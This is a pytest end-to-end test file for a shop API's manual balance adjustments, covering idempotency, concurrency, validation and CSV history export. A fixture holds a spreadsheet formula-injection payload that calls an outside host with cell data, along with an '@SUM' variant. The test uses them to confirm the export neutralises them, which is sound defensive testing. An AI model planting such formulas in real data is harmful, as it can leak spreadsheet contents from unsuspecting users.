"""Credits and debits by hand, on the deployed stack."""

import csv
import io
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from typing import Any
from urllib.parse import urljoin

import pytest

from dev.client import Answer
from tests.e2e.shop import Shop, at_once, insist, plain, problem

ADA = {"customer_id": "ada", "name": "Ada Brandt"}
FORMULA = '=HYPERLINK("https://example.com?" & A1)'


@pytest.fixture
def ada(shop: Shop) -> Shop:
    """A shop with a customer who has nothing yet."""
    shop.store.api("POST", "/v1/customers", ADA).expect(201)
    return shop


def adjust(shop: Shop, amount: Any, key: str | None = None, customer_id: str = "ada", **fields: Any) -> Answer:
    return shop.store.post(f"/v1/customers/{customer_id}/adjustments", {"amount": amount, **fields}, key=key)


def history(shop: Shop, query: str = "", customer_id: str = "ada") -> list[dict[str, Any]]:
    path = f"/v1/customers/{customer_id}/transactions{query}"
    items: list[dict[str, Any]] = plain(shop.store.api("GET", path).expect(200))["items"]
    return items


@pytest.mark.row("P17")
def test_a_credit_and_a_write_off_show_in_balance_and_history(ada: Shop) -> None:
    credit = plain(adjust(ada, "25.50", comment="sorry for the wait — “Ada”").expect(201))
    debit = plain(adjust(ada, "-10").expect(201))
    assert [(made["amount"], made["balance_after"]) for made in (credit, debit)] == [
        ("25.50", "25.50"),
        ("-10.00", "15.50"),
    ]
    assert ada.available("ada") == "15.50"
    shown = history(ada)
    assert [(line["type_label"], line["note"], line["balance_after"]) for line in shown] == [
        ("Manual", "Adjustment by an admin", "15.50"),
        ("Manual", "sorry for the wait — “Ada”", "25.50"),
    ]
    assert [line["transaction_id"] for line in shown] == [debit["transaction_id"], credit["transaction_id"]]


def test_a_repeated_call_gets_the_first_answer_and_moves_nothing(ada: Shop) -> None:
    first = adjust(ada, "10.00", "k", comment="once")
    adjust(ada, "1.00").expect(201)
    before = ada.stack.snapshot(ada.store)
    again = adjust(ada, 10, "k", comment="once")
    assert (again.expect(201), again.headers["idempotency-replayed"]) == (first.expect(201), "true")
    assert problem(adjust(ada, "11.00", "k"), 409)["code"] == "idempotency_mismatch"
    assert ada.stack.snapshot(ada.store) == before


@pytest.mark.row("54", "P4")
def test_more_than_there_is_is_refused_for_ever(ada: Shop) -> None:
    adjust(ada, "10.00").expect(201)
    assert problem(adjust(ada, "-10.01", "k"), 409)["code"] == "insufficient_balance"
    adjust(ada, "10.00").expect(201)
    again = adjust(ada, "-10.01", "k")
    assert (problem(again, 409)["code"], again.headers["idempotency-replayed"]) == ("insufficient_balance", "true")
    assert ada.available("ada") == "20.00"
    assert [line["status"] for line in history(ada)] == ["POSTED", "REJECTED", "POSTED"]


@pytest.mark.row("P5", "55", "I1")
def test_of_sixteen_debits_at_once_exactly_those_succeed_that_the_balance_is_enough_for(ada: Shop) -> None:
    def debit(amount: str) -> Answer:
        return insist(partial(adjust, ada, amount, uuid.uuid4().hex))

    for balance, amount, enough in (("100.00", "100.00", 1), ("100.00", "9.00", 11), ("0.60", "0.10", 16)):
        adjust(ada, balance).expect(201)
        answers = at_once(*[partial(debit, f"-{amount}")] * 16)
        assert sorted(answer.status for answer in answers) == [201] * enough + [409] * (16 - enough)
        assert {problem(one, 409)["code"] for one in answers if one.status == 409} <= {"insufficient_balance"}
    assert ada.available("ada") == "0.00"
    lines = [line["status"] for line in history(ada, "?limit=100")]
    assert (lines.count("POSTED"), lines.count("REJECTED")) == (3 + 28, 48 - 28)


@pytest.mark.row("F43", "71")
def test_one_request_sent_sixteen_times_at_once_is_posted_once(ada: Shop) -> None:
    answers = at_once(*(lambda: adjust(ada, "5.00", "same", comment="one") for _ in range(16)))
    assert {answer.status for answer in answers} <= {201, 503}
    assert ada.available("ada") == "5.00"
    assert len(history(ada)) == 1
    first = adjust(ada, "5.00", "same", comment="one").expect(201)
    assert all(answer.json() == first for answer in answers if answer.status == 201)


def test_credits_and_debits_at_one_moment_lose_nothing(ada: Shop) -> None:
    adjust(ada, "100.00").expect(201)
    calls = [(f"k{n}", "1.00" if n % 2 else "-1.00") for n in range(20)]
    with ThreadPoolExecutor(8) as pool:
        answers = list(pool.map(lambda call: adjust(ada, call[1], call[0]), calls))
    for (key, amount), answer in zip(calls, answers, strict=True):
        if answer.status == 503:
            adjust(ada, amount, key).expect(201)
    assert ada.available("ada") == "100.00"
    balances = [line["balance_after"] for line in history(ada, "?limit=100")]
    assert (balances[0], balances[-1], len(balances)) == ("100.00", "100.00", 21)


def test_a_large_adjustment_needs_an_admin(new_shop: Callable[..., Shop]) -> None:
    shop = new_shop(adjust_limit="50.00")
    shop.store.api("POST", "/v1/customers", ADA).expect(201)
    operator = Shop(shop.stack, shop.with_key("operator"))
    before = shop.stack.snapshot(shop.store)
    for amount in ("50.01", "-50.01"):
        assert problem(adjust(operator, amount), 403)["code"] == "forbidden"
    assert shop.stack.snapshot(shop.store) == before
    adjust(operator, "50.00").expect(201)
    adjust(shop, "50.01").expect(201)


def test_who_is_unknown_or_erased_is_404(ada: Shop) -> None:
    ada.store.api("DELETE", "/v1/customers/ada").expect(204)
    before = ada.stack.snapshot(ada.store)
    for customer_id in ("ada", "none"):
        assert problem(adjust(ada, "1.00", customer_id=customer_id), 404)["code"] == "not_found"
    assert ada.stack.snapshot(ada.store) == before


@pytest.mark.parametrize(
    ("amount", "code"),
    [
        ("0", "amount_zero"),
        ("-0.00", "amount_zero"),
        ("1.005", "amount_precision"),
        (0.30000000000000004, "amount_precision"),
        ("1,000.00", "amount_format"),
        ("0x10", "amount_format"),
        ("5.", "amount_format"),
        (True, "amount_format"),
        (None, "amount_format"),
        ("1234567890123", "amount_too_large"),
    ],
)
def test_what_is_no_amount_changes_nothing(ada: Shop, amount: Any, code: str) -> None:
    before = ada.stack.snapshot(ada.store)
    assert problem(adjust(ada, amount), 422)["code"] == code
    assert ada.stack.snapshot(ada.store) == before


def test_yen_have_no_decimals(new_shop: Callable[..., Shop]) -> None:
    shop = new_shop("JPY")
    shop.store.api("POST", "/v1/customers", ADA).expect(201)
    assert problem(adjust(shop, "10.5"), 422)["code"] == "amount_precision"
    assert plain(adjust(shop, "10").expect(201))["balance_after"] == "10"


def test_a_call_without_a_key_is_400(ada: Shop) -> None:
    answer = ada.store.api("POST", "/v1/customers/ada/adjustments", {"amount": "1"})
    assert problem(answer, 400)["code"] == "idempotency_key_required"


# ---- CSV


def table(shop: Shop, path: str) -> Answer:
    return shop.store.api("GET", path, headers={"accept": "text/csv"})


@pytest.mark.row("80", "S25")
def test_a_history_leaves_as_csv_page_by_page_and_runs_in_no_spreadsheet(ada: Shop) -> None:
    for amount, comment in (("3.00", FORMULA), ("-1.00", "@SUM(A1)"), ("2.00", 'naïve, "quoted"\r\nline')):
        adjust(ada, amount, comment=comment).expect(201)
    rows: list[dict[str, str]] = []
    path = "/v1/customers/ada/transactions?limit=2&type=manual"
    pages = 0
    while True:
        answer = table(ada, path)
        assert (answer.status, answer.headers["content-type"].partition(";")[0]) == (200, "text/csv")
        rows += csv.DictReader(io.StringIO(answer.body.decode(), newline=""), strict=True)
        pages += 1
        if "link" not in answer.headers:
            break
        path = urljoin(path, answer.headers["link"].partition(">")[0].removeprefix("<"))
    assert pages == 2
    assert [(row["amount"], row["balance_after"], row["note"]) for row in rows] == [
        ("2.00", "4.00", 'naïve, "quoted"\r\nline'),
        ("-1.00", "2.00", "'@SUM(A1)"),
        ("3.00", "3.00", f"'{FORMULA}"),
    ]
    assert history(ada)[-1]["note"] == FORMULA


def test_without_a_limit_all_of_a_history_is_one_page(ada: Shop) -> None:
    with ThreadPoolExecutor(8) as pool:
        made = list(pool.map(lambda n: adjust(ada, "1.00", f"k{n}").status, range(120)))
    found = list(csv.reader(io.StringIO(table(ada, "/v1/customers/ada/transactions").body.decode(), newline="")))
    assert len(found) == 1 + sum(status == 201 for status in made) > 101
